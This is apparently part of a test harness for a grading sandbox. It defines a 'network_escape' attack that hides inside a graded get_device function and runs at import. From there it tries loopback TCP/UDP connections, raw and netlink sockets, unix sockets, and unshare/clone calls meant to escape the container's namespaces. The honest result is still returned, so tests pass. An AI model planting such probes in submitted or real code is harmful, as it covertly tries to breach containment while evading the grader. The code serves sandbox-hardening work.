# ---------------------------------------------------------------- attack: network_escape
# Reach the outside from a container where the kernel refuses a network namespace (Gradescope's Docker: no
# CAP_SYS_ADMIN), so only the worker's seccomp filter stands in the way. At import and again inside get_device
# (a graded function; its honest result is still returned, so every test passes): a TCP connection to the
# test's listener on 127.0.0.1, a UDP datagram to it, a netlink socket (lists the host's interfaces), a raw
# packet socket; a pathname unix socket the test listens on (a network namespace does not cover those: they
# live in the file system) and an abstract one; and the namespace escapes: unshare(CLONE_NEWUSER) (which would
# give this process every capability over new namespaces), with CLONE_NEWNET, and clone(CLONE_NEWUSER).
# Nothing is ever sent off the machine: every target is on this machine's loopback or file system.
_attack_honest_get_device_ne = get_device


def _attack_network_escape(stage):
    import ctypes
    import socket

    port, attempts = _ATTACK_CONFIG["port"], []

    def tcp():
        with socket.create_connection(("127.0.0.1", port), timeout=3) as connection:
            connection.sendall(b"PWNED: network_escape\n")
            return "connected"

    def udp():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.sendto(b"PWNED", ("127.0.0.1", port))
            return "sent"

    def unix(address):
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
            sock.settimeout(3)
            sock.connect(address)
            sock.sendall(b"PWNED: network_escape\n")
            return "connected"

    def family(name, *args):
        with socket.socket(*args):
            return f"opened a {name} socket"

    libc = ctypes.CDLL(None, use_errno=True)

    def unshare(flags):
        if libc.unshare(flags) != 0:
            raise PermissionError(ctypes.get_errno(), _aos.strerror(ctypes.get_errno()))
        return "unshared"

    attempts.append(_attack_try(f"tcp 127.0.0.1:{port}", tcp))
    attempts.append(_attack_try(f"udp 127.0.0.1:{port}", udp))
    attempts.append(_attack_try("netlink", lambda: family("netlink", socket.AF_NETLINK, socket.SOCK_RAW, 0)))
    attempts.append(_attack_try("packet", lambda: family("packet", socket.AF_PACKET, socket.SOCK_RAW, 0)))
    attempts.append(_attack_try("inet6", lambda: family("inet6", socket.AF_INET6, socket.SOCK_STREAM)))
    attempts.append(_attack_try(f"unix {_ATTACK_CONFIG['unix_path']}", lambda: unix(_ATTACK_CONFIG["unix_path"])))
    attempts.append(_attack_try("unix abstract", lambda: unix("\0" + _ATTACK_CONFIG["unix_abstract"])))
    attempts.append(_attack_try("unshare(CLONE_NEWUSER)", lambda: unshare(0x10000000)))
    attempts.append(_attack_try("unshare(CLONE_NEWUSER|CLONE_NEWNET)", lambda: unshare(0x10000000 | 0x40000000)))
    attempts.append(_attack_try("unshare(CLONE_NEWNS)", lambda: unshare(0x00020000)))

    def clone_user():
        import os

        pid = libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0)  # clone(CLONE_NEWUSER | SIGCHLD), x86-64
        if pid == 0:
            os._exit(0)
        if pid < 0:
            raise PermissionError(ctypes.get_errno(), _aos.strerror(ctypes.get_errno()))
        os.waitpid(pid, 0)
        return "cloned into a new user namespace"

    import platform

    if platform.machine() == "x86_64":
        attempts.append(_attack_try("clone(CLONE_NEWUSER)", clone_user))
    _attack_record("network_escape", stage=stage, attempts=attempts)


_attack_network_escape("import")


def get_device():
    _attack_network_escape("get_device")
    return _attack_honest_get_device_ne()
